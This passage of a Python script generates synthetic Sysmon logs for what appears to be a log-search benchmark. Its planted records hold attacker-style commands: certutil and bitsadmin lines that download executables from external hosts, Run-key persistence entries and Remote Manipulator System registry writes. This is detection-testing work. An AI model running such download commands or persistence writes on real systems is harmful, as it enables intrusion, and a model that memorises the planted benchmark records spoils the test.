    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\SessionsPending\\Exclusive",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\{x}\\InstallProperties\\DisplayName",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{{{guid}}}\\DisplayVersion",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU\\NoAutoUpdate",
    "HKLM\\SOFTWARE\\WOW6432Node\\TeamViewer\\ClientID",
    "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\AuthRoot\\Certificates\\{x}\\Blob",
    "HKLM\\SOFTWARE\\Microsoft\\Tracing\\{img}_RASAPI32\\EnableFileTracing",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{n}",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\HRZR_PGYFRFFVBA",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap\\ProxyBypass",
    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\%USERPROFILE%/Documents/{f}",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.pdf\\OpenWithList\\a",
    "HKU\\{sid}\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
    "HKU\\{sid}\\Software\\AT&T\\Connect\\Settings\\LastServer",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Shell Folders\\Cache",
    "HKU\\{sid}_Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\MuiCache\\{img}.FriendlyAppName",
]
REG_WRITERS = ["C:\\Windows\\system32\\svchost.exe", "C:\\Windows\\system32\\services.exe",
               "C:\\Windows\\explorer.exe", "C:\\Windows\\system32\\reg.exe",
               "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               "C:\\Windows\\system32\\msiexec.exe", "C:\\Windows\\system32\\lsass.exe",
               "C:\\Program Files\\Windows Defender\\MsMpEng.exe", "C:\\Windows\\regedit.exe",
               "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
               "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe"]
DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "advapi32.dll", "amsi.dll", "wininet.dll",
        "winhttp.dll", "dbghelp.dll", "samlib.dll", "vaultcli.dll", "clr.dll", "System.Management.Automation.ni.dll",
        "crypt32.dll", "wldp.dll", "taskschd.dll", "vbscript.dll"]


def parse_catalog(rng: random.Random) -> list[tuple]:
    """Each image: (path, name, fileversion, description, product, company, original, hashes)."""
    def hashes() -> str:
        h = rng.getrandbits
        return (f"SHA1={h(160):040X},MD5={h(128):032X},SHA256={h(256):064X},IMPHASH={h(128):032X}")

    images = []
    for line in SYSTEM32.splitlines():
        name, desc = line.split("|")
        folder = "C:\\Windows\\System32\\" if rng.random() < 0.9 else "C:\\Windows\\system32\\"
        images.append((folder + name, name, WIN_FV, desc, WIN_PRODUCT, MS, name.upper() if
                       name.islower() and rng.random() < 0.2 else name, hashes()))
    for line in PROGRAMS.splitlines():
        path, desc, product, company, version = line.split("|")
        name = path.rsplit("\\", 1)[1]
        images.append((path, name, version, desc, product, company, name, hashes()))
    return images


def esc(value: str) -> str:
    if "&" in value:
        value = value.replace("&", "&amp;")
    if "<" in value:
        value = value.replace("<", "&lt;").replace(">", "&gt;")
    return value


def esc_quotes(value: str) -> str:
    return esc(value).replace('"', "&quot;")


class Generator:
    def __init__(self, seed: int) -> None:
        self.rng = rng = random.Random(seed)
        self.images = parse_catalog(rng)
        self.by_name = {}
        for image in self.images:
            self.by_name.setdefault(image[1].lower(), image)
        self.by_name["powershell.exe"] = next(i for i in self.images if i[0].startswith("C:\\Windows\\System32\\Windows"))
        self.hosts = []
        for index, name in enumerate(HOSTS):
            self.hosts.append({
                "name": name, "fqdn": f"{name.lower()}.{FQDN}", "guid": f"{rng.getrandbits(32):08X}",
                "ip": f"10.0.{1 + index // 4}.{10 + index * 7}", "pid": rng.randrange(2000, 4000),
                "tids": [rng.randrange(1000, 9000) for _ in range(4)],
                "record": rng.randrange(100000, 30000000),
                "users": rng.sample(PEOPLE, 3) + (["Administrator"] if name.startswith("WIN-DC") else []),
            })
        self.sids = {u: f"{SID_BASE}-{1100 + i}" for i, u in enumerate(PEOPLE)}
        self.time_us = int(datetime(2024, 10, 7, 8, 0, tzinfo=timezone.utc).timestamp() * 1_000_000)
        self._sec = -1
        self._sec_str = ("", "")
        self.parents = [self.by_name[n] for n in ("explorer.exe", "cmd.exe", "services.exe", "svchost.exe",
                                                   "powershell.exe", "winword.exe", "userinit.exe",
                                                   "taskhostw.exe", "wmiprvse.exe", "chrome.exe")]
        self.parent_weights = [25, 20, 15, 15, 10, 3, 2, 4, 3, 3]

    # -- helpers -------------------------------------------------------------------------------
    def stamp(self) -> tuple[str, str]:
        self.time_us += self.rng.randrange(1, 40000)
        sec, us = divmod(self.time_us, 1_000_000)
        if sec != self._sec:
            self._sec = sec
            dt = datetime.fromtimestamp(sec, timezone.utc)
            self._sec_str = (dt.strftime("%Y-%m-%dT%H:%M:%S"), dt.strftime("%Y-%m-%d %H:%M:%S"))
        a, b = self._sec_str
        return f"{a}.{us:06d}Z", f"{b}.{us // 1000:03d}"

    def pguid(self, host: dict) -> str:
        r = self.rng.getrandbits(64)
        return (f"{host['guid']}-{r & 0xFFFF:04X}-{(r >> 16) & 0xFFFF:04X}-"
                f"{(r >> 32) & 0xFFFF:04X}-0000000{(r >> 48) & 0xF:01X}{(r >> 52) & 0xFFF:03X}0")

    def guid(self) -> str:
        r = self.rng.getrandbits(128)
        s = f"{r:032X}"
        return f"{s[:8]}-{s[8:12]}-{s[12:16]}-{s[16:20]}-{s[20:]}"

    def user_of(self, host: dict) -> tuple[str, str]:
        if self.rng.random() < 0.45:
            u = self.rng.choice(SERVICE_USERS)
            return u, "S-1-5-18"
        u = self.rng.choice(host["users"])
        return f"{DOMAIN}\\{u}", self.sids[u]

    def fill(self, template: str, user: str, host: dict) -> str:
        if "{" not in template:
            return template
        rng = self.rng
        short = user.rsplit("\\", 1)[1]
        doc = rng.choice(DOCS)
        return template.format(u=short, h=rng.choice(HOSTS), n=rng.randrange(1, 99999),
                               x=f"{rng.getrandbits(32):08x}", d=rng.choice(DNS),
                               f=doc.replace("{n}", str(rng.randrange(1000, 9999))),
                               sid=self.sids.get(short, f"{SID_BASE}-500"),
                               b64="".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
                                           for _ in range(rng.randrange(80, 480))) + "=")

    def command_line(self, image: tuple, user: str, host: dict) -> str:
        path, name = image[0], image[1]
        args = ARGS.get(name.lower()) or GENERIC_ARGS
        tail = self.fill(self.rng.choice(args), user, host)
        quoted = f'"{path}"' if (" " in path or self.rng.random() < 0.4) else path
        return f"{quoted} {tail}".rstrip() if tail else quoted

    def header(self, eid: int, host: dict, system_time: str) -> str:
        version, task = EID_HEADER[eid]
        host["record"] += 1
        return (f'<Event xmlns="{NS}"><System>{PROVIDER}<EventID>{eid}</EventID><Version>{version}</Version>'
                f'<Level>4</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
                f'<TimeCreated SystemTime="{system_time}"/><EventRecordID>{host["record"]}</EventRecordID>'
                f'<Correlation/><Execution ProcessID="{host["pid"]}" ThreadID="{self.rng.choice(host["tids"])}"/>'
                f'{CHANNEL}<Computer>{host["fqdn"]}</Computer><Security UserID="S-1-5-18"/></System><EventData>')

    @staticmethod
    def data(pairs: list[tuple[str, str]]) -> str:
        return "".join([f'<Data Name="{k}">{v}</Data>' for k, v in pairs]) + "</EventData></Event>\n"

    # -- event builders (values passed in are raw; escaping happens here) ----------------------
    def eid1(self, host, image=None, cmd=None, user=None, parent=None, quote_entities=False) -> str:
        rng = self.rng
        st, ut = self.stamp()
        image = image or rng.choice(self.images)
        if user is None:
            user, _ = self.user_of(host)
        parent = parent or rng.choices(self.parents, self.parent_weights)[0]
        cmd = cmd if cmd is not None else self.command_line(image, user, host)
        pcmd = self.command_line(parent, user, host)
        e = esc_quotes if quote_entities or rng.random() < 0.01 else esc
        short = user.rsplit("\\", 1)[1]
        cwd = f"C:\\Users\\{short}\\" if "AUTHORITY" not in user else "C:\\Windows\\system32\\"
        return self.header(1, host, st) + self.data([
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("Image", esc(image[0])),
            ("FileVersion", image[2]), ("Description", esc(image[3])), ("Product", esc(image[4])),
            ("Company", esc(image[5])), ("OriginalFileName", image[6]), ("CommandLine", e(cmd)),
            ("CurrentDirectory", cwd), ("User", user), ("LogonGuid", self.pguid(host)),
            ("LogonId", f"0x{rng.randrange(0x3e7, 0xfffffff):x}"), ("TerminalSessionId", str(rng.randrange(0, 3))),
            ("IntegrityLevel", rng.choice(("Medium", "High", "System", "Medium"))), ("Hashes", image[7]),
            ("ParentProcessGuid", self.pguid(host)), ("ParentProcessId", str(rng.randrange(200, 20000))),
            ("ParentImage", esc(parent[0])), ("ParentCommandLine", e(pcmd)), ("ParentUser", user)])

    def eid3(self, host) -> str:
        rng = self.rng
        st, ut = self.stamp()
        image = rng.choice(self.images)
        user, _ = self.user_of(host)
        port, pname = rng.choice(PORTS)
        if port in (445, 389, 88, 53, 135, 5985, 3389, 8089, 9997):
            dip = f"10.0.{rng.randrange(1, 4)}.{rng.randrange(2, 250)}"
            dhost = rng.choice(HOSTS).lower() + "." + FQDN
        else:
            dip = rng.choice(EXT_IPS)
            dhost = rng.choice(DNS) if rng.random() < 0.7 else "-"
        v6 = "true" if ":" in dip else "false"
        return self.header(3, host, st) + self.data([
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("Image", esc(image[0])), ("User", user),
            ("Protocol", "udp" if port == 53 else "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
            ("SourceIp", host["ip"]), ("SourceHostname", host["fqdn"]),
            ("SourcePort", str(rng.randrange(49152, 65535))), ("SourcePortName", "-"),
            ("DestinationIsIpv6", v6), ("DestinationIp", dip), ("DestinationHostname", dhost),
            ("DestinationPort", str(port)), ("DestinationPortName", pname)])

    def eid11(self, host, target=None, image_path=None) -> str:
        rng = self.rng
        st, ut = self.stamp()
        user, _ = self.user_of(host)
        short = user.rsplit("\\", 1)[1]
        image_path = image_path or rng.choice(self.images)[0]
        if target is None:
            target = rng.choice([
                f"C:\\Users\\{short}\\AppData\\Local\\Temp\\{rng.getrandbits(32):08x}.tmp",
                f"C:\\Windows\\Prefetch\\{image_path.rsplit(chr(92), 1)[1].upper()}-{rng.getrandbits(32):08X}.pf",
                f"C:\\Users\\{short}\\Documents\\" + rng.choice(DOCS).replace("{n}", str(rng.randrange(99))),
                f"C:\\Users\\{short}\\Downloads\\" + rng.choice(DOCS).replace("{n}", str(rng.randrange(99))),
                f"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\{rng.getrandbits(32):08X}.log",
                f"C:\\Windows\\Temp\\{rng.getrandbits(24):06x}\\setup.exe",
                f"C:\\Users\\{short}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{rng.getrandbits(16):04x}.lnk",
                "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
            ])
        return self.header(11, host, st) + self.data([
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("Image", esc(image_path)),
            ("TargetFilename", esc(target)), ("CreationUtcTime", ut), ("User", user)])

    def reg_target(self, user: str) -> str:
        rng = self.rng
        short = user.rsplit("\\", 1)[1]
        return rng.choice(REG_KEYS).format(
            svc=rng.choice(SERVICES), sid=self.sids.get(short, f"{SID_BASE}-500"), guid=self.guid(),
            img=rng.choice(self.images)[1], n=rng.randrange(0, 40), x=f"{rng.getrandbits(64):016X}",
            f=rng.choice(DOCS).replace("{n}", "7"))

    def eid12(self, host, target=None, image_path=None, event_type=None) -> str:
        rng = self.rng
        st, ut = self.stamp()
        user, _ = self.user_of(host)
        target = target or self.reg_target(user).rsplit("\\", 1)[0]
        return self.header(12, host, st) + self.data([
            ("RuleName", "-"), ("EventType", event_type or rng.choice(("CreateKey", "CreateKey", "DeleteKey", "DeleteValue"))),
            ("UtcTime", ut), ("ProcessGuid", self.pguid(host)), ("ProcessId", str(rng.randrange(200, 20000))),
            ("Image", esc(image_path or rng.choice(REG_WRITERS))), ("TargetObject", esc(target)), ("User", user)])

    def eid13(self, host, target=None, details=None, image_path=None, user=None) -> str:
        rng = self.rng
        st, ut = self.stamp()
        if user is None:
            user, _ = self.user_of(host)
        target = target or self.reg_target(user)
        if details is None:
            details = rng.choice((f"DWORD (0x{rng.randrange(0, 5):08x})", "Binary Data",
                                  f"QWORD (0x{rng.getrandbits(24):08x}-0x{rng.getrandbits(32):08x})",
                                  f"%%SystemRoot%%\\System32\\{rng.choice(self.images)[1]}",
                                  f"\"C:\\Program Files\\App{rng.randrange(9)}\\app.exe\" /background",
                                  "(Empty)", f"{rng.getrandbits(32):08x}"))
        return self.header(13, host, st) + self.data([
            ("RuleName", "-"), ("EventType", "SetValue"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("Image", esc(image_path or rng.choice(REG_WRITERS))),
            ("TargetObject", esc(target)), ("Details", esc(details)), ("User", user)])

    def eid22(self, host) -> str:
        rng = self.rng
        st, ut = self.stamp()
        user, _ = self.user_of(host)
        name = rng.choice(DNS)
        status = "0" if rng.random() < 0.9 else rng.choice(("9003", "1460", "9501"))
        results = (f"type:  5 {name}.edgekey.net;::ffff:{rng.choice(EXT_IPS[:14])};" if status == "0" else "-")
        return self.header(22, host, st) + self.data([
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("QueryName", name), ("QueryStatus", status),
            ("QueryResults", results), ("Image", esc(rng.choice(self.images)[0])), ("User", user)])

    def eid5(self, host) -> str:
        rng = self.rng
        st, ut = self.stamp()
        user, _ = self.user_of(host)
        return self.header(5, host, st) + self.data([
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("Image", esc(rng.choice(self.images)[0])),
            ("User", user)])

    def eid7(self, host) -> str:
        rng = self.rng
        st, ut = self.stamp()
        user, _ = self.user_of(host)
        image = rng.choice(self.images)
        dll = rng.choice(DLLS)
        return self.header(7, host, st) + self.data([
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.pguid(host)),
            ("ProcessId", str(rng.randrange(200, 20000))), ("Image", esc(image[0])),
            ("ImageLoaded", f"C:\\Windows\\System32\\{dll}"), ("FileVersion", WIN_FV), ("Description", dll),
            ("Product", WIN_PRODUCT), ("Company", MS), ("OriginalFileName", dll),
            ("Hashes", image[7]), ("Signed", "true"), ("Signature", "Microsoft Windows"),
            ("SignatureStatus", "Valid"), ("User", user)])

    # -- records the benchmark searches should find, and prefilter hard cases ------------------
    def special(self, k: int, host: dict) -> str:
        rng = self.rng
        user = f"{DOMAIN}\\{rng.choice(host['users'])}"
        short = user.rsplit("\\", 1)[1]
        sid = self.sids[short]
        rms = "HKLM\\System\\Remote Manipulator System\\v4\\Server\\Parameters\\"
        certutil = self.by_name["certutil.exe"]
        kind = k % 16
        if kind == 0:
            return self.eid13(host, rms + rng.choice(("Options", "Security", "InternetId", "FUSClientPath")),
                              "Binary Data", RMS_IMAGE, "NT AUTHORITY\\SYSTEM")
        if kind == 1:
            return self.eid13(host, "HKLM\\SYSTEM\\remote manipulator system\\v4\\Server\\Parameters\\Notification",
                              "DWORD (0x00000001)", RMS_IMAGE, "NT AUTHORITY\\SYSTEM")
        if kind == 2:
            return self.eid12(host, "HKLM\\System\\Remote Manipulator System\\v4\\Server\\Parameters",
                              RMS_IMAGE, "CreateKey")
        if kind == 3:
            return self.eid1(host, certutil, f"certutil.exe -urlcache -f http://{rng.choice(EXT_IPS[12:17])}/p{rng.randrange(99)}.exe "
                             f"C:\\Users\\Public\\p.exe", user)
        if kind == 4:  # entity inside the URL
            return self.eid1(host, certutil, "certutil  -urlcache -split -f \"http://update-check.example-cdn.net/get.php?id=7&t=<x>\" "
                             "C:\\Windows\\Temp\\a.bin", user, quote_entities=True)
        if kind == 5:  # multi-line command line
            return self.eid1(host, certutil, "C:\\Windows\\System32\\certutil.exe -urlcache -f\r\nhttp://transfer.sh/x/"
                             "loader.dll\r\nC:\\ProgramData\\loader.dll", user)
        if kind == 6:
            return self.eid1(host, self.by_name["bitsadmin.exe"], "bitsadmin /transfer job1 /download /priority high "
                             "http://198.51.100.23/a.exe C:\\Users\\Public\\a.exe & certutil -urlcache * delete", user)
        if kind == 7:
            return self.eid13(host, f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                              f"C:\\Users\\{short}\\AppData\\Roaming\\upd.exe", "C:\\Windows\\system32\\reg.exe", user)
        if kind == 8:
            return self.eid13(host, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\Setup & Cleanup",
                              "\"C:\\ProgramData\\setup <1>.exe\" /q", "C:\\Windows\\system32\\msiexec.exe", user)
        if kind == 9:
            return self.eid13(host, "HKLM\\SOFTWARE\\Microsoft\\Windows\\currentversion\\run\\SecurityHealth",
                              "%windir%\\system32\\SecurityHealthSystray.exe", "C:\\Windows\\system32\\svchost.exe",
                              "NT AUTHORITY\\SYSTEM")
        if kind == 10:  # multi-line PowerShell
            return self.eid1(host, self.by_name["powershell.exe"], "powershell.exe -NoProfile -Command \"$a = 1\n"
                             "Get-ChildItem C:\\Users | ForEach-Object { $_.Name }\n"
                             "Write-Output 'done & dusted'\"", user)
        if kind == 11:
            return self.eid11(host, f"C:\\Users\\{short}\\Documents\\R&D <draft> \"final\".docx",
                              "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
        if kind == 12:
            return self.eid1(host, certutil, "CertUtil.exe -URLCache -F https://raw.githubusercontent.com/x/y/main/s.ps1 s.ps1",
                             user, parent=self.by_name["cmd.exe"])
        if kind == 13:
            return self.eid13(host, rms + "Password", "Binary Data",
                              "C:\\Users\\Public\\rms\\rutserv.exe", user)
        if kind == 14:  # looks similar but must NOT match the RMS search
            return self.eid13(host, "HKLM\\SOFTWARE\\Remote Manipulator System\\v4\\Server\\Parameters\\Options",
                              "Binary Data", RMS_IMAGE, user)
        return self.eid1(host, self.by_name["cmd.exe"], "cmd.exe /c \"echo ^<script^> > C:\\Temp\\a&b.htm\" && "
                         "type C:\\Temp\\a&b.htm | findstr \"<\"", user, quote_entities=True)

    def rms(self, host: dict) -> str:
        """A record of an RMS (Remote Manipulator System) install: what the seed search looks for,
        and what its pushed-down literal `\\system\\remote manipulator system` finds."""
        rng = self.rng
        key = "HKLM\\System\\Remote Manipulator System\\v4\\Server\\Parameters"
        if rng.random() < 0.2:
            return self.eid12(host, key, RMS_IMAGE, "CreateKey")
        value = rng.choice(("Options", "Security", "InternetId", "FUSClientPath", "Notification",
                            "Password", "License", "Language", "CallbackSettings"))
        return self.eid13(host, f"{key}\\{value}", rng.choice(("Binary Data", "DWORD (0x00000001)")),
                          RMS_IMAGE, "NT AUTHORITY\\SYSTEM")

    def write(self, out, records: int, specials: int = 48, selectivity: float = 0.0) -> None:
        """`selectivity`: the share of records (beyond the planted ones) written as RMS registry
        events, which the seed search's prefilter cannot skip; real attack data has 1-5%. At 0
        the file is the same as before the knob existed (the random stream is not touched)."""
        rng = self.rng
        hosts = self.hosts
        step = max(1, records // max(1, specials))
        builders = {1: self.eid1, 3: self.eid3, 11: self.eid11, 12: self.eid12, 13: self.eid13,
                    22: self.eid22, 5: self.eid5, 7: self.eid7}
        buf = []
        special_index = 0
        for i in range(records):
            host = rng.choice(hosts)
            if i % step == step // 2 and special_index < specials:
                buf.append(self.special(special_index, host))
                special_index += 1
            elif selectivity and rng.random() < selectivity:
                buf.append(self.rms(host))
            else:
                r = rng.random()
                for bound, eid in MIX:
                    if r < bound:
                        break
                buf.append(builders[eid](host))
            if len(buf) >= 2000:
                out.write("".join(buf))
                buf.clear()
        out.write("".join(buf))


def write_json_lines(xml_path: str, json_path: str) -> None:
    """The records of `xml_path` as JSON lines in the shape of `evtx_dump -o jsonl`:
    {"Event": {"#attributes": {"xmlns": ...}, "System": {...}, "EventData": {...}}}, with an
    element's attributes under "#attributes" and its text under "#text" when it has both."""
    ns = "{" + NS + "}"
    with open(xml_path, "rb") as source, open(json_path, "w", encoding="utf-8", newline="\n") as out:
        pending = []
        for line in source:
            pending.append(line)
            if b"</Event>" not in line:
                continue
            root = etree.fromstring(b"".join(pending))
            pending = []
            system: dict = {}
            data: dict = {}
            for section in root:
                if section.tag == ns + "System":
                    for child in section:
                        name = child.tag[len(ns):]
                        attributes = dict(child.attrib)
                        if attributes and child.text:
                            system[name] = {"#attributes": attributes, "#text": child.text}
                        elif attributes:
                            system[name] = {"#attributes": attributes}
                        else:
                            system[name] = child.text
                elif section.tag == ns + "EventData":
                    data = {item.get("Name"): item.text for item in section}
            event = {"#attributes": {"xmlns": NS}, "System": system, "EventData": data}
            out.write(json.dumps({"Event": event}, ensure_ascii=False) + "\n")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--records", type=int, default=200_000, help="number of events (default 200000)")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument("--out", default="sysmon.log", help="output path (default sysmon.log)")
    parser.add_argument("--selectivity", type=float, default=0.0,
                        help="share of records that are RMS registry events, which pass the seed "
                             "search's prefilter (default 0; real attack data: 0.01-0.05)")
    parser.add_argument("--json-out", metavar="PATH",
                        help="also write the same events as JSON lines (evtx_dump's JSON shape)")
    args = parser.parse_args(argv)
    start = time.perf_counter()
    with open(args.out, "w", encoding="utf-8", newline="\n", buffering=1 << 20) as out:
        Generator(args.seed).write(out, args.records, selectivity=args.selectivity)
    if args.json_out:
        write_json_lines(args.out, args.json_out)
    elapsed = time.perf_counter() - start
    size = os.path.getsize(args.out)
    print(f"wrote {args.records} records, {size / 1e6:.1f} MB to {args.out} in {elapsed:.1f}s", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
